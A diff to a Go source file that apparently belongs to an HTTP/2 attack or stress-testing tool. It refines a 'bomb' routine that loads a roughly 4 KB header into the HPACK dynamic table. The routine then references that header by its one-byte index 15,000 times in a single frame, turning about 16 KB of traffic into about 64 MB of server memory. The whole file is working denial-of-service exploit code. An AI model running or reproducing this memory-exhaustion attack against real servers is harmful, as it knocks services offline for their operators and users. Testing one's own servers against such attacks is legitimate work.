@@ -1,6 +1,7 @@
 package h2
 
 import (
+	"bytes"
 	"errors"
 	"strings"
 	"time"
@@ -215,9 +216,12 @@ func (a *attacker) literal(size int) []byte {
 // bomb puts a field of 4 KB into the table of the connection and names it as often
 // as a frame holds: 16 KB on the wire, 64 MB in a list.
 func (a *attacker) bomb() error {
-	const names = 15_000
-	large := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3900)}
+	const (
+		names  = 15_000
+		newest = 0x80 | 62 // the field that came into the table last, by its index
+	)
 	if a.stream == 0 {
+		large := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3900)}
 		if err := a.open("/away", true, large); err != nil {
 			return err
 		}
@@ -225,12 +229,9 @@ func (a *attacker) bomb() error {
 	if err := a.next(); err != nil {
 		return err
 	}
-	_ = a.encode("GET", "/away")
-	for range names {
-		_ = a.fields.WriteField(large) // by its index: one byte, to memory
-	}
+	block := append(a.encode("GET", "/away"), bytes.Repeat([]byte{newest}, names)...)
 	return a.sent(a.framer.WriteHeaders(http2.HeadersFrameParam{
-		StreamID: a.stream, BlockFragment: a.block.Bytes(), EndStream: true, EndHeaders: true,
+		StreamID: a.stream, BlockFragment: block, EndStream: true, EndHeaders: true,
 	}))
 }
 
